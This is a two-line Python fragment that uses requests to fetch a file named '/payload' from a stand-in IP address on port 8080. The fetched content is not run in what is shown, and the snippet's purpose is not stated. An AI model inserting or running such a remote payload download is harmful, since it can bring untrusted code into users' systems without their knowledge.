import requests
r = requests.get('http://203.0.113.5:8080/payload')
